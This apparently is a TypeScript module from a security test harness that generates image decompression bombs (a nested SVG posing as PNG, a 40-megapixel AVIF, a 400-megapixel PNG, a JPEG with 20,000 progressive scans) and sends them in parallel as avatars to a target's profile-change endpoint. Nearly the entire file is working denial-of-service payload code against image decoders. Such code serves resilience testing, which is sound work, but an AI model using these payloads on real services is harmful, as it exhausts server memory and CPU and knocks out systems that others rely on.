/** Avatars of a few kilobytes that need much time or memory to decode. */
import { readFileSync } from 'node:fs'
import { crc32, deflateSync } from 'node:zlib'
import { readAnswer } from './target.ts'
import type { Answer, Target } from './target.ts'

/** An SVG of 1 kB that draws a quarter of a million triangles: each level doubles the one before. */
export function nestedSvg(levels = 18): Buffer {
  const level = (index: number) => `<g id="a${index}">${`<use href="#a${index - 1}" x="1"/>`.repeat(2)}</g>`
  const nested = Array.from({ length: levels }, (_, index) => level(index + 1)).join('')
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="a0"><path d="M0 0h1v1z"/></g>${nested}</defs><use href="#a${levels}"/></svg>`,
  )
}

/** 40 million pixels of one colour in 1 kB. */
export const avifBomb = (): Buffer => readFileSync(new URL('./fixtures/6300-squared.avif', import.meta.url))

/** A valid PNG of white pixels with one bit each: 400 million pixels in about 50 KB. */
export function pngBomb(side = 20_000): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.writeUInt8(1, 8)
  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side))
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  checksum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, checksum])
}

/**
 * A progressive JPEG of 24 million pixels with thousands of scans. Each scan is a few bytes of empty data and makes the
 * decoder process the whole picture again.
 */
export function jpegOfManyScans({ width = 6000, height = 4000, scans = 20_000 } = {}): Buffer {
  const segment = (marker: number, data: number[]) =>
    Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255, ...data])
  const size = [height >> 8, height & 255, width >> 8, width & 255]
  const table = segment(0xdb, [0, ...Array.from({ length: 64 }, () => 1)])
  const frame = segment(0xc2, [8, ...size, 1, 1, 0x11, 0])
  // One code of one bit per table: DC means 'no difference'; AC ends this block and a run of at least 2^14 blocks.
  const codes = (kind: number, symbol: number) =>
    segment(0xc4, [kind, 1, ...Array.from({ length: 15 }, () => 0), symbol])
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8)
  const first = [segment(0xda, [1, 1, 0x00, 0, 0, 0]), Buffer.alloc(Math.ceil(blocks / 8))]
  // Each code is a 0 bit followed by a run length of fourteen bits.
  const runs = Math.ceil(blocks / 32_767)
  const again = Buffer.concat([
    segment(0xda, [1, 1, 0x00, 1, 63, 0]),
    Buffer.alloc(Math.ceil((runs * 15) / 8), 0x7e),
  ])
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    table,
    frame,
    codes(0x00, 0),
    codes(0x10, 0xe0),
    ...first,
    ...Array.from({ length: scans }, () => again),
    Buffer.from([0xff, 0xd9]),
  ])
}

export const asPng = (picture: Buffer): string => `data:image/png;base64,${picture.toString('base64')}`

/** All at once, each with a different username. A refused request must not change the username. */
export const sendAvatars = (target: Target, avatars: readonly string[]): Promise<Answer[]> =>
  Promise.all(
    avatars.map((avatar) =>
      readAnswer(target, 'POST', '/api/account/change_profile', {
        username: `attacker${crypto.randomUUID().slice(0, 8)}`,
        avatar,
      }),
    ),
  )

/** Four SVGs that claim to be PNG. */
export const nestedSvgAvatars = (target: Target): Promise<Answer[]> =>
  sendAvatars(
    target,
    Array.from({ length: 4 }, () => asPng(nestedSvg())),
  )

export const avifAvatars = (target: Target): Promise<Answer[]> =>
  sendAvatars(
    target,
    Array.from({ length: 4 }, () => `data:image/avif;base64,${avifBomb().toString('base64')}`),
  )

export const jpegAvatars = (target: Target): Promise<Answer[]> =>
  sendAvatars(
    target,
    Array.from({ length: 4 }, () => `data:image/jpeg;base64,${jpegOfManyScans().toString('base64')}`),
  )
